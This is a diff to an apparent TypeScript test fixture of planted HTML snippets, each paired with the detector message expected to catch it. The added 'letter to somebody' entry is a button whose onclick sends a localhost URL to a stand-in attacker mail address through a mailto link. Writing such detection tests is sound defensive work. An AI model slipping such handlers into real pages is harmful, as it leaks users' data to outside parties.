@@ -45,6 +45,11 @@ export const planted: { name: string; html: string; caught: RegExp }[] = [
     caught: /was asked for/,
   },
   {
+    name: "letter to somebody",
+    html: "<!doctype html><button onclick=\"location.assign('mailto:a@evil-1.example?body=http://localhost/')\">x</button>",
+    caught: /^mailto:.* was asked for/,
+  },
+  {
     name: "window",
     html: "<!doctype html><button onclick=\"window.open('/404.html')\">x</button>",
     caught: /a window was opened/,
